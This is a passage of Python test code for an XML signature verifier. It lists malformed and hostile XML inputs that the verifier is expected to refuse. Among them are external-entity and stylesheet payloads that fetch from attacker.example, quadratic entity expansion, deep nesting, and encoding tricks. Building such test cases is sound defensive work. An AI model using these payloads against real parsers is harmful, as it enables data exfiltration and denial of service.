        "parameter entity": '<!DOCTYPE r:result [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd">%p;]>',
        "default attribute": '<!DOCTYPE r:result [<!ATTLIST r:amount unit CDATA "million">]>',
        "id attribute": '<!DOCTYPE r:result [<!ATTLIST r:amount Id ID "data">]>',
        "quadratic": f'<!DOCTYPE r:result [<!ENTITY q "{"q" * 50000}">]>',
        "public": '<!DOCTYPE r:result PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/x.dtd">',
    }.items():
        attack("doctype", name, UNREAD, "READ", head + document)
        attack("doctype", f"{name}, used", UNREAD, "READ", head + document.replace("<r:number>", "<r:number>&e9;&x;&q;", 1))
    for name, rules, text in [
        ("undeclared entity", "READ", document.replace("100", "&amount;")), ("processing instruction", "READ", f"<?pay 900?>{document}"),
        ("processing instruction in a value", "READ", document.replace("<ds:DigestValue>", "<ds:DigestValue><?x?>", 1)),
        ("processing instruction in the data", "READ", document.replace("100", "1<?x?>00")),
        ("stylesheet", "READ", f'<?xml-stylesheet href="http://attacker.example/x.xsl"?>{document}'),
        ("version 1.1", "READ", declaration.replace("1.0", "1.1") + document), ("latin-1", "READ", declaration.replace("UTF-8", "ISO-8859-1") + document),
        ("utf-16 told", "READ", declaration.replace("UTF-8", "UTF-16") + document), ("utf-7 told", "READ", declaration.replace("UTF-8", "UTF-7") + document),
        ("utf-16", "READ", document.encode("utf-16")), ("utf-16 without mark", "READ", document.encode("utf-16-be")), ("utf-32", "READ", document.encode("utf-32")),
        ("two marks", "READ", "﻿﻿" + document), ("overlong", "READ", document.encode().replace(b"100", b"1\xc0\xb00")),
        ("surrogates", "READ", document.encode().replace(b"100", b"1\xed\xa0\x800")), ("not utf-8", "READ", document.encode().replace(b"100", b"1\xff0")),
        ("zero octet", "READ", document.encode().replace(b"100", b"1\x000")), ("control character", "READ", document.replace("100", "1\x080")),
        ("zero octet by number", "READ", document.replace("100", "1&#0;0")), ("two roots", "READ", document + "<r/>"), ("text behind", "READ", document + "900"),
        ("unclosed", "READ", document[:-5]), ("an attribute twice", "READ", document.replace("<r:data ", '<r:data Id="x" ')),
        ("a prefix that is not declared", "READ", document.replace("<r:number>", "<q:x/><r:number>")),
        ("relative namespace", "READ|XML-31", document.replace("<r:number>", '<r:number xmlns:q="relative">')),
        ("an attribute twice by namespace", "READ", document.replace("<r:number>", '<r:number xmlns:a="urn:a" xmlns:b="urn:a" a:x="1" b:x="2">')),
        ("prefix undeclared", "READ", document.replace("<r:number>", '<r:number xmlns:ds="">')), ("xml prefix redefined", "READ", document.replace("<r:number>", '<r:number xmlns:xml="urn:x">')),
        ("deep", "PROCESS", document.replace("100", "<r:d>" * 100 + "100" + "</r:d>" * 100)),
        ("very deep", "PROCESS|READ", document.replace("100", "<r:d>" * 300000 + "</r:d>" * 300000)),
        ("many attributes", "PROCESS", document.replace("<r:amount>", "<r:amount " + " ".join(f'a{i}="1"' for i in range(1000)) + ">")),
        ("many namespaces", "PROCESS", document.replace("<r:amount>", "<r:amount " + " ".join(f'xmlns:a{i}="urn:{i}"' for i in range(1000)) + ">")),
        ("long name", "PROCESS|READ", document.replace("r:amount", "r:" + "a" * 100000)),
        ("many signatures", "PROCESS", document.replace("</r:result>", f'<ds:Signature xmlns:ds="{x.DS}"/>' * 40 + "</r:result>")),
        ("a large SignedInfo", "XML-31|VALUE|PROCESS|XML-21|XML-23", document.replace("<ds:SignedInfo>", f'<ds:SignedInfo Id="{"a" * 100000}">')),
        ("a large value", "XML-22|VALUE|PROCESS", document.replace("</ds:SignatureValue>", "A" * 400000 + "</ds:SignatureValue>")),
        ("a comment in SignedInfo", "XML-06", document.replace("<ds:SignedInfo>", "<ds:SignedInfo><!-- 900 -->")),
        ("a comment in KeyInfo", "XML-06", document.replace("<ds:KeyInfo>", "<ds:KeyInfo><!-- 900 -->")),
        ("cdata in the value", "XML-22|VALUE", re.sub("(<ds:SignatureValue[^>]*>)([^<]*)", r"\1<![CDATA[\2]]>", document)),
    ]:
        attack("parsing", name, REFUSED, rules, text)


def cases(w, attack):
    for group in (wrapping, structure, references, algorithms, keys_and_properties, parsing):
        group(w, attack)
